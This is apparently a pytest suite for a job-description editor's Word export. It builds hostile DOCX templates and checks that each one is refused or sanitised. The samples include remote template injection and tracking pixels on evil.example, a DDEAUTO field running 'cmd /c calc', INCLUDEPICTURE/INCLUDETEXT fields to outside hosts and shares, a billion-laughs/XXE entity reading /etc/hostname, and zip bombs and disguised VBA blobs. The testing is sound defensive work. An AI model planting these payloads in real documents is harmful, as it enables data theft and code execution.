"""Hostile company templates: refused with a clear reason, or exported with the danger gone.

Every template is built here from a real python-docx document, then edited the way an attacker
(or a broken tool) would; nothing is read from outside the test's own folder.
"""

from __future__ import annotations

import io
import os
import re
import struct
import uuid
import zipfile
from functools import cache
from pathlib import Path

import docx
import pytest
from docx.oxml.ns import qn
from docx.shared import RGBColor
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from jdeditor.export import _package
from jdeditor.export.docx import DocxOptions, TemplateError, template_notes
from jdeditor.export.reference import build_reference
from jdeditor.files import DocumentError
from jdeditor.model import JobDescription
from tests.export.helpers import export, reopen

HEADER = "ACME CORP — CONFIDENTIAL"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
DANGER = re.compile(r"attachedTemplate|mailMerge|INCLUDEPICTURE|INCLUDETEXT|\bDDE(AUTO)?\b", re.I)
OLE = bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 504  # how every VBA project starts


@cache
def company_template() -> bytes:
    """A real company template: red headings, its own header and footer, a sample body."""
    template = docx.Document()
    template.styles["Heading 1"].font.color.rgb = RGBColor(0xC0, 0x00, 0x00)
    section = template.sections[0]
    section.header.paragraphs[0].text = HEADER
    section.footer.paragraphs[0].text = "Footer"
    template.add_paragraph("This sample body must not survive the export.")
    buffer = io.BytesIO()
    template.save(buffer)
    return buffer.getvalue()


def repack(data: bytes, changes: dict[str, bytes | None]) -> bytes:
    """The package with entries replaced, dropped (None) or added."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as output:
        for info in source.infolist():
            content = changes.get(info.filename, source.read(info))
            if content is not None:
                output.writestr(info, content)
        for name, content in changes.items():
            if name not in source.namelist() and content is not None:
                output.writestr(name, content)
    return buffer.getvalue()


def part(data: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(data)).read(name)


def edited(name: str, old: bytes, new: bytes, data: bytes | None = None) -> bytes:
    """The company template with one replacement made in one part."""
    data = data or company_template()
    content = part(data, name)
    assert old in content
    return repack(data, {name: content.replace(old, new, 1)})


def with_relationship(
    data: bytes, source: str, rel_id: str, kind: str, target: str, *, external: bool = True
) -> bytes:
    """Add a relationship from ``source`` (creating its .rels part if needed)."""
    folder, _, file = source.rpartition("/")
    rels = f"{folder}/_rels/{file}.rels"
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    existing = part(data, rels) if rels in names else f'<Relationships xmlns="{RELS}"/>'.encode()
    mode = ' TargetMode="External"' if external else ""
    relationship = f'<Relationship Id="{rel_id}" Type="{kind}" Target="{target}"{mode}/>'
    content = re.sub(rb"\s*/>\s*$|</Relationships>\s*$", b">", existing.strip())
    return repack(data, {rels: content + relationship.encode() + b"</Relationships>"})


def with_override(data: bytes, name: str, content_type: str) -> bytes:
    override = f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'
    return edited("[Content_Types].xml", b"</Types>", override.encode(), data)


def write(tmp_path: Path, data: bytes, name: str = "company.docx") -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def export_with(template: Path) -> bytes:
    document = JobDescription(title="Agent", responsibilities=("Answer calls",))
    return export(document, DocxOptions(template=template))


def refused(path: Path, reason: str) -> TemplateError:
    with pytest.raises(TemplateError) as caught:
        export_with(path)
    message = str(caught.value)
    assert str(path) in message
    assert re.search(reason, message), message
    return caught.value


def assert_safe(output: bytes) -> None:
    """No outside link but hyperlinks, no unsafe field, no macro, and every XML part parses."""
    archive = zipfile.ZipFile(io.BytesIO(output))
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    assert len(set(archive.namelist())) == len(archive.namelist())
    for name in archive.namelist():
        content = archive.read(name)
        assert not content.startswith(OLE[:8]), name
        assert b"vbaProject" not in content, name
        if not name.endswith((".xml", ".rels")):
            continue
        root = etree.fromstring(content, parser)  # raises unless well-formed
        assert not root.getroottree().docinfo.doctype, name
        for relationship in root.iter(f"{{{RELS}}}Relationship"):
            if relationship.get("TargetMode") == "External":
                assert relationship.get("Type", "").endswith("/hyperlink"), name
        assert not DANGER.search(content.decode("utf-8")), name


def assert_template_kept(output: bytes) -> None:
    word = reopen(output)
    assert word.sections[0].header.paragraphs[0].text == HEADER
    assert word.styles["Heading 1"].font.color.rgb == RGBColor(0xC0, 0x00, 0x00)
    assert word.paragraphs[0].text == "Agent"


def exported_safely(path: Path) -> bytes:
    output = export_with(path)
    assert_safe(output)
    return output


# --- the zip itself -------------------------------------------------------------------------
def central_records(data: bytes) -> list[int]:
    return [match.start() for match in re.finditer(rb"PK\x01\x02", data)]


def patch_central(data: bytes, entry: str, offset: int, value: bytes) -> bytes:
    """Overwrite bytes at ``offset`` inside ``entry``'s central-directory record."""
    for start in central_records(data):
        name_length = struct.unpack_from("<H", data, start + 28)[0]
        if data[start + 46 : start + 46 + name_length] == entry.encode():
            return data[: start + offset] + value + data[start + offset + len(value) :]
    raise AssertionError(entry)


def test_bomb_by_declared_size_is_refused(tmp_path: Path) -> None:
    """A zip that claims 4 GB unpacked is refused before a byte is inflated."""
    data = patch_central(company_template(), "word/styles.xml", 24, struct.pack("<I", 2**32 - 1))
    refused(write(tmp_path, data), r"says it unpacks to 4,29\d,\d{3},\d{3} bytes, more.*zip bomb")


def test_bomb_under_a_lowered_limit_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(_package, "MAX_INFLATED_BYTES", 1_000_000)
    data = repack(company_template(), {"word/media/fill.bin": b"\0" * 2_000_000})
    assert len(data) < 100_000  # it compresses to nearly nothing
    refused(write(tmp_path, data), "zip bomb")


def test_bomb_whose_header_lies_is_refused(tmp_path: Path) -> None:
    """Sizes claim 100 bytes; the data inflates to 2 MB. Only 100 are read, then the CRC fails."""
    data = repack(company_template(), {"word/media/fill.bin": b"\0" * 2_000_000})
    data = patch_central(data, "word/media/fill.bin", 24, struct.pack("<I", 100))
    local = data.rindex(b"PK\x03\x04", 0, data.index(b"word/media/fill.bin"))
    data = data[: local + 22] + struct.pack("<I", 100) + data[local + 26 :]
    refused(write(tmp_path, data), "is damaged and cannot be opened.*fill.bin")


def test_too_many_parts_or_too_much_xml_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write(tmp_path, company_template())
    monkeypatch.setattr(_package, "MAX_ENTRIES", 10)
    refused(path, "has too many parts for a Word template")
    monkeypatch.undo()
    monkeypatch.setattr(_package, "MAX_XML_ELEMENTS", 1_000)
    refused(write(tmp_path, company_template(), "other.docx"), "has too much XML")


def test_clean_template_has_nothing_to_report(tmp_path: Path) -> None:
    path = write(tmp_path, company_template())
    assert_template_kept(exported_safely(path))
    assert template_notes(path) == []


def test_deflate64_is_refused(tmp_path: Path) -> None:
    data = patch_central(company_template(), "word/document.xml", 10, struct.pack("<H", 9))
    refused(write(tmp_path, data), "compression Word does not write")


def test_encrypted_entry_is_refused(tmp_path: Path) -> None:
    data = patch_central(company_template(), "word/document.xml", 8, struct.pack("<H", 1))
    refused(write(tmp_path, data), "is encrypted")


def test_corrupt_deflate_data_is_refused(tmp_path: Path) -> None:
    data = company_template()
    start = data.index(b"word/styles.xml") + 200  # well inside its compressed data
    data = data[:start] + bytes(range(256)) * 4 + data[start + 1024 :]
    refused(write(tmp_path, data), "is damaged and cannot be opened.*styles.xml")


@pytest.mark.parametrize(
    ("missing", "reason"),
    [
        ("[Content_Types].xml", "is not a Word document or template"),
        ("word/document.xml", "main document part is missing"),
    ],
)
def test_missing_essential_part_is_refused(tmp_path: Path, missing: str, reason: str) -> None:
    refused(write(tmp_path, repack(company_template(), {missing: None})), reason)


# --- the main document ---------------------------------------------------------------------
def test_document_without_body_is_refused(tmp_path: Path) -> None:
    data = repack(
        company_template(), {"word/document.xml": f'<w:document xmlns:w="{W}"/>'.encode()}
    )
    refused(write(tmp_path, data), "has no body")


def test_document_without_section_settings_gets_ours(tmp_path: Path) -> None:
    document = part(company_template(), "word/document.xml")
    no_section = re.sub(rb"<w:sectPr.*</w:sectPr>", b"", document)
    path = write(tmp_path, repack(company_template(), {"word/document.xml": no_section}))
    word = reopen(exported_safely(path))
    assert word.paragraphs[0].text == "Agent"
    assert word.sections[0].page_width is not None


def test_numbering_with_non_integer_ids_gets_our_bullets(tmp_path: Path) -> None:
    base = build_reference()
    styles = re.sub(
        rb'<w:style w:type="paragraph" w:styleId="ListBullet">.*?</w:style>',
        b"",
        part(base, "word/styles.xml"),
    )
    numbering = part(base, "word/numbering.xml")
    numbering = re.sub(rb'w:abstractNumId="\d+"', b'w:abstractNumId="first"', numbering)
    numbering = re.sub(rb'w:numId="\d+"', b'w:numId="x1"', numbering)
    path = write(
        tmp_path, repack(base, {"word/styles.xml": styles, "word/numbering.xml": numbering})
    )
    word = reopen(exported_safely(path))
    num_ids = [n.get(qn("w:numId")) for n in word.part.numbering_part.element.iter(qn("w:num"))]
    assert num_ids == ["x1", "1"]
    bullet = word.styles["List Bullet"].element
    assert bullet.find(f"{qn('w:pPr')}/{qn('w:numPr')}/{qn('w:numId')}").get(qn("w:val")) == "1"


# --- XML -----------------------------------------------------------------------------------
LAUGHS = b"".join(  # a billion laughs, and a file the parser must never read
    b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10 if level else b"ha")
    for level in range(10)
)


@pytest.mark.parametrize(
    ("declarations", "reference"),
    [
        (b'<!ENTITY co "ACME">', b"&co;"),
        (LAUGHS + b'<!ENTITY x SYSTEM "/etc/hostname">', b"&l9;&x;"),
    ],
)
def test_doctype_with_entities_in_header_is_refused(
    tmp_path: Path, declarations: bytes, reference: bytes
) -> None:
    header = part(company_template(), "word/header1.xml")
    header = header.replace(b"?>", b"?><!DOCTYPE w:hdr [" + declarations + b"]>", 1)
    header = header.replace(HEADER.encode(), reference)
    path = write(tmp_path, repack(company_template(), {"word/header1.xml": header}))
    refused(path, "declares a DTD or entities in word/header1.xml")


def test_part_that_is_not_xml_is_refused(tmp_path: Path) -> None:
    data = repack(company_template(), {"word/footer1.xml": b"<w:ftr><w:p>"})
    refused(write(tmp_path, data), "footer1.xml is not well-formed XML")


# --- outside links -------------------------------------------------------------------------
def remote_template_injection() -> bytes:
    """The remote template injection trick: Word fetches the .dotm named in settings."""
    data = edited(
        "word/settings.xml",
        b"<w:defaultTabStop",
        b'<w:attachedTemplate r:id="rIdT"/><w:defaultTabStop',
    )
    return with_relationship(
        data, "word/settings.xml", "rIdT", f"{R}/attachedTemplate", "https://evil.example/t.dotm"
    )


def test_remote_attached_template_is_stripped(tmp_path: Path) -> None:
    data = remote_template_injection()
    path = write(tmp_path, data)
    output = exported_safely(path)
    assert_template_kept(output)
    assert template_notes(path) == ["removed a link to an outside template, in the settings"]


def test_mail_merge_is_stripped(tmp_path: Path) -> None:
    mail_merge = (
        b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
        b'<w:query w:val="SELECT * FROM secrets"/><w:dataSource r:id="rIdM"/></w:mailMerge>'
    )
    data = edited("word/settings.xml", b"<w:defaultTabStop", mail_merge + b"<w:defaultTabStop")
    data = with_relationship(
        data, "word/settings.xml", "rIdM", f"{R}/mailMergeSource", "file:///C:/secrets.xlsx"
    )
    path = write(tmp_path, data)
    assert_template_kept(exported_safely(path))
    assert "removed a mail-merge data source, in the settings" in template_notes(path)


def test_web_settings_frameset_is_stripped(tmp_path: Path) -> None:
    frameset = b'<w:frameset><w:frame><w:sourceFileName r:id="rIdF"/></w:frame></w:frameset>'
    data = edited("word/webSettings.xml", b"<w:allowPNG/>", b"<w:allowPNG/>" + frameset)
    data = with_relationship(
        data, "word/webSettings.xml", "rIdF", f"{R}/frame", "https://evil.example/frame.html"
    )
    output = exported_safely(write(tmp_path, data))
    assert b"frameset" not in part(output, "word/webSettings.xml")
    assert_template_kept(output)


def picture_run(rel_id: str) -> bytes:
    return (
        b'<w:r><w:pict><v:shape style="width:10pt;height:10pt">'
        b'<v:imagedata r:id="' + rel_id.encode() + b'" o:title="logo"/></v:shape></w:pict></w:r>'
    )


def test_outside_picture_in_header_is_stripped(tmp_path: Path) -> None:
    data = edited("word/header1.xml", b"</w:p>", picture_run("rIdX") + b"</w:p>")
    data = with_relationship(
        data, "word/header1.xml", "rIdX", f"{R}/image", "https://evil.example/pixel.png"
    )
    path = write(tmp_path, data)
    output = exported_safely(path)
    assert_template_kept(output)
    assert b"imagedata" not in part(output, "word/header1.xml")
    assert template_notes(path) == ["removed a picture loaded from outside the file, in the header"]


def test_link_to_missing_part_is_stripped(tmp_path: Path) -> None:
    data = edited("word/header1.xml", b"</w:p>", picture_run("rIdM") + b"</w:p>")
    data = with_relationship(
        data, "word/header1.xml", "rIdM", f"{R}/image", "media/gone.png", external=False
    )
    path = write(tmp_path, data)
    assert_template_kept(exported_safely(path))
    assert template_notes(path) == ["removed a link to a part that is missing, in the header"]


def test_outside_hyperlink_in_header_is_kept(tmp_path: Path) -> None:
    link = b'<w:hyperlink r:id="rIdL"><w:r><w:t> acme.example</w:t></w:r></w:hyperlink></w:p>'
    data = edited("word/header1.xml", b"</w:p>", link)
    data = with_relationship(
        data, "word/header1.xml", "rIdL", f"{R}/hyperlink", "https://acme.example"
    )
    rels = "word/_rels/header1.xml.rels"  # lower case: python-docx would look for a part
    data = edited(rels, b'TargetMode="External"', b'TargetMode="external"', data)
    path = write(tmp_path, data)
    output = exported_safely(path)
    assert reopen(output).sections[0].header.paragraphs[0].text == HEADER + " acme.example"
    assert b"https://acme.example" in part(output, "word/_rels/header1.xml.rels")
    assert template_notes(path) == []


def test_html_chunk_to_import_is_stripped(tmp_path: Path) -> None:
    """Word imports an altChunk on opening, fetching the pictures its HTML names."""
    chunk = b'<html><img src="https://evil.example/pixel.png"></html>'
    data = edited("word/header1.xml", b"</w:hdr>", b'<w:altChunk r:id="rIdH"/></w:hdr>')
    data = with_override(repack(data, {"word/chunk.html": chunk}), "word/chunk.html", "text/html")
    data = with_relationship(
        data, "word/header1.xml", "rIdH", f"{R}/aFChunk", "chunk.html", external=False
    )
    path = write(tmp_path, data)
    output = exported_safely(path)
    assert_template_kept(output)
    assert b"altChunk" not in part(output, "word/header1.xml")
    assert template_notes(path) == ["removed a piece of HTML or RTF to import, in the header"]


@pytest.mark.parametrize("kind", ["oleObject", "subDocument"])
def test_outside_ole_object_or_subdocument_is_refused(tmp_path: Path, kind: str) -> None:
    data = with_relationship(
        company_template(), "word/document.xml", "rIdO", f"{R}/{kind}", "\\\\evil\\share\\x.doc"
    )
    refused(write(tmp_path, data), "pulls in an outside")


# --- fields --------------------------------------------------------------------------------
def complex_field(code: list[str], result: str) -> bytes:
    """A field split over several runs, as Word writes it after editing."""
    runs = ['<w:r><w:fldChar w:fldCharType="begin"/></w:r>']
    runs += [
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in code
    ]
    runs += ['<w:r><w:fldChar w:fldCharType="separate"/></w:r>', f"<w:r><w:t>{result}</w:t></w:r>"]
    runs += ['<w:r><w:fldChar w:fldCharType="end"/></w:r>']
    return "".join(runs).encode()


def test_unsafe_fields_are_neutralised_and_their_results_kept(tmp_path: Path) -> None:
    simple = (
        b'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://evil.example/a.png&quot; \\d">'
        b"<w:r><w:t>[logo]</w:t></w:r></w:fldSimple>"
    )
    split = complex_field(["  inclu", 'detext "\\\\\\\\evil\\\\share\\\\x.docx" '], "[text]")
    dde = complex_field([' DDEAUTO "cmd" "/c calc" '], "[exchange]")
    nested = (  # IF stays; the INCLUDEPICTURE inside its code goes
        b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        b'<w:r><w:instrText xml:space="preserve"> IF 1 = 1 "</w:instrText></w:r>'
        + complex_field([" INCLUDEPICTURE http://evil.example/b.png "], "[b]")
        + b'<w:r><w:instrText xml:space="preserve">" </w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>[if]</w:t></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    page = complex_field([" PAGE "], "1")
    paragraph = b"<w:p>" + simple + split + dde + nested + page + b"</w:p>"
    data = edited("word/header1.xml", b"</w:hdr>", paragraph + b"</w:hdr>")
    path = write(tmp_path, data)
    output = exported_safely(path)
    assert_template_kept(output)
    header = reopen(output).sections[0].header
    assert header.paragraphs[1].text == "[logo][text][exchange][if]1"
    header_xml = part(output, "word/header1.xml").decode()
    assert re.findall(r"<w:instrText[^>]*>([^<]*)<", header_xml) == [' IF 1 = 1 "', '" ', " PAGE "]
    assert template_notes(path) == [
        "removed an INCLUDEPICTURE field from the header (2 times)",
        "removed an INCLUDETEXT field from the header",
        "removed a DDEAUTO field from the header",
    ]


def test_unsafe_field_in_footer_is_neutralised(tmp_path: Path) -> None:
    field = b'<w:fldSimple w:instr="ddeauto excel sheet1"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
    data = edited("word/footer1.xml", b"</w:p>", field + b"</w:p>")
    output = exported_safely(write(tmp_path, data))
    assert reopen(output).sections[0].footer.paragraphs[0].text == "Footerx"


# --- macros and active content -----------------------------------------------------------
def test_activex_part_is_refused(tmp_path: Path) -> None:
    control = b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
    data = repack(company_template(), {"word/activeX/activeX1.xml": control})
    data = with_override(data, "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    refused(write(tmp_path, data), "ActiveX")


def test_activex_relationship_is_refused(tmp_path: Path) -> None:
    data = repack(company_template(), {"word/activeX/activeX1.xml": b"<ocx/>"})
    data = with_relationship(
        data, "word/document.xml", "rIdA", f"{R}/control", "activeX/activeX1.xml", external=False
    )
    refused(write(tmp_path, data), "ActiveX")


def test_vba_project_relationship_is_refused(tmp_path: Path) -> None:
    data = repack(company_template(), {"word/vbaProject.bin": b"not even OLE"})
    vba = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    data = with_relationship(
        data, "word/document.xml", "rIdV", vba, "vbaProject.bin", external=False
    )
    refused(write(tmp_path, data), "macro-enabled")


@pytest.mark.parametrize("name", ["word/media/image1.png", "customXml/item9.bin"])
def test_renamed_vba_project_is_refused(tmp_path: Path, name: str) -> None:
    data = repack(company_template(), {name: OLE})
    refused(write(tmp_path, data), f"{re.escape(name)} is an OLE file")


# --- what is not a file ------------------------------------------------------------------
@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="POSIX only")
def test_fifo_is_refused_without_blocking(tmp_path: Path) -> None:
    path = tmp_path / "company.docx"
    os.mkfifo(path)
    refused(path, "is a pipe")


def test_symlink_to_device_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "company.docx"
    path.symlink_to("/dev/zero")  # never opened here; jdeditor must see it is no file
    refused(path, "is a device")


def test_folder_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "company.docx"
    path.mkdir()
    refused(path, "is a folder")


# --- anything at all -----------------------------------------------------------------------
@settings(max_examples=60, deadline=None)
@given(
    cut=st.integers(min_value=0, max_value=60_000),
    flips=st.lists(st.tuples(st.integers(min_value=0), st.integers(1, 255)), max_size=8),
)
def test_damaged_template_never_fails_otherwise(
    tmp_path_factory: pytest.TempPathFactory, cut: int, flips: list[tuple[int, int]]
) -> None:
    """Truncated or bit-flipped templates are refused with a DocumentError, or exported."""
    data = bytearray(company_template())
    data = data[: len(data) - cut] if cut < len(data) else data
    for position, mask in flips:
        if data:
            data[position % len(data)] ^= mask
    check_never_fails_otherwise(tmp_path_factory, bytes(data))


@settings(max_examples=60, deadline=None)
@given(
    name=st.sampled_from(
        [
            "word/document.xml",
            "word/header1.xml",
            "word/_rels/document.xml.rels",
            "word/numbering.xml",
            "[Content_Types].xml",
            "word/settings.xml",
            "docProps/core.xml",
        ]
    ),
    flips=st.lists(
        st.tuples(st.integers(min_value=0), st.integers(1, 255)), min_size=1, max_size=4
    ),
)
def test_damaged_xml_never_fails_otherwise(
    tmp_path_factory: pytest.TempPathFactory, name: str, flips: list[tuple[int, int]]
) -> None:
    """Flipped bytes inside an XML part (behind a valid CRC) are refused or exported safely."""
    content = bytearray(part(company_template(), name))
    for position, mask in flips:
        content[position % len(content)] ^= mask
    check_never_fails_otherwise(
        tmp_path_factory, repack(company_template(), {name: bytes(content)})
    )


def check_never_fails_otherwise(factory: pytest.TempPathFactory, data: bytes) -> None:
    # A new file each time, so no cached check answers for an earlier example.
    path = factory.mktemp("mutated") / f"{uuid.uuid4().hex}.docx"
    path.write_bytes(data)
    try:
        assert_safe(export_with(path))
    except DocumentError as error:
        assert str(path) in str(error)


def test_svg_logo_with_the_w3c_doctype_is_a_picture_not_refused(tmp_path: Path) -> None:
    """Pictures are blobs to Word and python-docx; only XML parts they parse get the DTD rule."""
    svg = (
        b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>'
    )
    data = repack(company_template(), {"word/media/logo.svg": svg})
    data = with_override(data, "word/media/logo.svg", "image/svg+xml")
    data = with_relationship(
        data, "word/header1.xml", "rIdSvg", f"{R}/image", "media/logo.svg", external=False
    )
    output = export_with(write(tmp_path, data))
    assert part(output, "word/media/logo.svg") == svg


def test_a_theme_part_that_is_not_the_documents_keeps_its_name(tmp_path: Path) -> None:
    """A template whose document has no theme but whose header links theme1.xml: ours is
    added under a free name, so no part is written twice."""
    data = company_template()
    theme = part(data, "word/theme/theme1.xml")
    rels = part(data, "word/_rels/document.xml.rels")
    rels = re.sub(rb'<Relationship [^>]*relationships/theme"[^>]*/>', b"", rels)
    rels = re.sub(rb'<Relationship [^>]*Target="theme/theme1.xml"[^>]*/>', b"", rels)
    data = repack(data, {"word/_rels/document.xml.rels": rels, "word/theme/theme1.xml": theme})
    data = with_relationship(
        data, "word/header1.xml", "rIdTheme", f"{R}/theme", "theme/theme1.xml", external=False
    )
    output = export_with(write(tmp_path, data))
    names = zipfile.ZipFile(io.BytesIO(output)).namelist()
    assert len(names) == len(set(names))
    assert "word/theme/theme2.xml" in names
